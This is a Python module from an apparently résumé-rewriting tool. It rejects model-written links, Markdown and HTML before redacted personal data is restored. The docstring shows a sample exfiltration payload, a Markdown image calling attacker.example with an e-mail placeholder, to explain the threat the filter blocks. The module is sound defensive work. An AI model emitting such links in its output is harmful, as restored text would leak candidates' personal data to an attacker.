"""Refuse model-written links, Markdown and HTML before redacted PII is put back into the text.

A model only ever sees placeholders ([EMAIL_1]); `Redaction.restore` puts the real values back. If the model
wrapped a placeholder in a URL or a Markdown image (`![x](https://attacker.example/?e=[EMAIL_1])`), restoring it
would hand the candidate's e-mail to whoever renders or opens that text — the Review page, an integrator's UI, a
spreadsheet. So a rewrite that contains such syntax, and did not get it from the text it was sent, is refused
whole: the original bullet stands and the item carries an `unsafe_output` flag.
"""

from __future__ import annotations

import re

from core.types import BulletRewrite, Flag

# Each pattern finds one kind of active syntax; the matched text is what must have been in the input already.
_PATTERNS: tuple[tuple[str, re.Pattern[str]], ...] = (
    ("link", re.compile(r"(?i)\b[a-z][a-z0-9+.-]{1,30}://\S*")),  # https://, ftp://, chrome-extension://
    ("link", re.compile(r"(?i)\b(?:mailto|javascript|vbscript|data|file|tel|sms|callto|xmpp):\S*")),
    ("link", re.compile(r"(?i)\bwww\.\S+")),
    ("markdown link", re.compile(r"!?\[[^\]\n]*\][(\[]")),  # [text](url), ![alt](src), [text][ref]
    ("markdown link", re.compile(r"(?m)^\s*\[[^\]\n]+\]:")),  # [ref]: url
    ("markdown", re.compile(r"\*\*|__|~~|`")),  # emphasis, strike-through, code
    ("markdown", re.compile(r"(?m)^\s{0,3}(?:#{1,6}\s|>)")),  # heading, block quote
    ("html", re.compile(r"<\s*/?\s*[a-z!?][^<>]*>", re.IGNORECASE)),  # tags, comments, processing instructions
    ("html", re.compile(r"&(?:#\d+|#x[0-9a-f]+|[a-z][a-z0-9]{1,31});", re.IGNORECASE)),  # character references
)


def active_syntax(text: str) -> list[tuple[str, str]]:
    """Every (kind, snippet) of link, Markdown or HTML syntax in text."""
    return [(kind, m.group()) for kind, pattern in _PATTERNS for m in pattern.finditer(text)]


def unsafe_output(output: str, sent: str) -> list[tuple[str, str]]:
    """The active syntax in a model's output that the text sent to it did not already contain (empty: safe)."""
    return [(kind, snippet) for kind, snippet in active_syntax(output) if snippet not in sent]


def guard_rewrites(rewrites: list[BulletRewrite], sent: list[str]) -> tuple[list[BulletRewrite], list[Flag]]:
    """Rewrites (still redacted) with every unsafe text emptied, and one flag per refused bullet.

    An emptied rewrite reads as "no change" downstream, so the original bullet stands; unsafe variants are dropped.
    """
    out: list[BulletRewrite] = []
    flags: list[Flag] = []
    for r in rewrites:
        source = sent[r.index] if 0 <= r.index < len(sent) else ""
        found = unsafe_output(r.rewrite, source)
        variants = [v for v in r.variants if not unsafe_output(v, source)]
        if found:
            kinds = sorted({kind for kind, _ in found})
            flags.append(
                Flag(
                    kind="unsafe_output",
                    detail=f"bullet {r.index + 1}: the model wrote {', '.join(kinds)} syntax; its rewrite was refused "
                    "and the original stands",
                    tokens=[snippet[:80] for _, snippet in found[:5]],
                )
            )
        out.append(r.model_copy(update={"rewrite": "" if found else r.rewrite, "variants": variants}))
    return out, flags
